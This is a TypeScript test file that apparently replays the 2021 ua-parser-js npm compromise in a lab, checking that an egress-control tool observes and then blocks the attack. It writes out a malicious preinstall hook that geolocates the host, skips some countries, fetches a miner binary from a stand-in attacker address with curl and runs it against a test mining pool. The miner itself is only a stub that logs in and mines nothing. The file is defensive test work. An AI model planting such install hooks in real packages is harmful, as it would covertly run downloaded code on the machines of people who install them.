// docs/incidents/ua-parser-js.md
import t from 'tap'
import { addresses } from '../../lab/addresses.ts'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstall, offer, project, registry } from './npm-install.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(180_000)

const depot = addresses.attacker.v4
const pool = 'pool.miner.test'
const where = 'where-am-i.test'
const worker = 'tidegate-replay-rig'

/** As in the package: it asks where it is, leaves some countries alone, and fetches a miner from a bare address. */
const preinstall = `IP=$(curl -sk -m 5 https://${where}/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]; then
  if [ ! -e ./jsextension ]; then curl -s -m 5 http://${depot}/download/jsextension -o jsextension; fi
  [ -s ./jsextension ] && sh miner.sh -k --tls --rig-id ${worker} -o ${pool}:443 &
  wait
fi
`

/** In the place of the miner that was fetched: it reports to its pool, over TLS, and mines nothing. */
const miner = `printf '{"method":"login","params":{"rigid":"%s"}}\\n' "$4" | timeout 3 openssl s_client -quiet -connect "$6" -servername ${pool} -verify_quiet
`

const packages = [
  {
    manifest: {
      name: 'ua-parser-js',
      version: '0.7.29',
      main: 'index.js',
      scripts: { preinstall: 'sh preinstall.sh >/dev/null 2>&1 || true' },
    },
    files: [
      { path: 'index.js', content: 'module.exports = 1\n' },
      { path: 'preinstall.sh', content: preinstall },
      { path: 'miner.sh', content: miner },
    ],
  },
]

const incident: Incident<'install'> = {
  attacker: [pool],
  honest: [where],
  spoils: [worker],
  policy: `allow:\n  - GET,HEAD ${registry}\n`,
  steps: {
    install: `${project({ name: 'app', version: '1.0.0', dependencies: { 'ua-parser-js': '^0.7.0' } })} && ${npmInstall}`,
  },
}

t.test('ua-parser-js, 2021: a miner, fetched before the package is installed', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await offer(lab, packages)
  await lab.origins.script(where, '*', { status: 200, body: '<CountryCode>XX</CountryCode>' })
  const download = { host: depot, reason: 'address-literal', exe: /\/curl$/, parent: /\/node$/ }

  await t.test('in audit it is seen, named and attributed', async t => {
    const run = await replay(lab, incident, 'audit')
    await itWorked(t, lab, incident)
    itIsTold(t, run, {
      host: where,
      verdict: 'observe',
      reason: 'no-rule',
      layer: 'http',
      exe: /\/curl$/,
      parent: /\/node$/,
    })
    itIsTold(t, run, { ...download, verdict: 'observe', layer: 'http', port: 80 })
    itIsTold(t, run, { host: pool, verdict: 'observe', reason: 'no-rule', layer: 'dns', exe: /\/openssl$/ })
    // What goes over its TLS is no HTTP.
    itIsTold(t, run, { host: pool, verdict: 'observe', reason: 'malformed', port: 443, exe: /\/openssl$/ })
  })
  await t.test('in block nothing is fetched, nothing reports, and the installation goes on', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    itIsTold(t, run, {
      host: where,
      verdict: 'deny',
      reason: 'no-rule',
      layer: 'dns',
      exe: /\/curl$/,
      parent: /\/node$/,
    })
    itIsTold(t, run, { ...download, verdict: 'deny' })
    t.same(await lab.origins.requests({ host: where }), [])
    t.equal(run.step('install').exitCode, 0, run.step('install').stderr)
  })
})
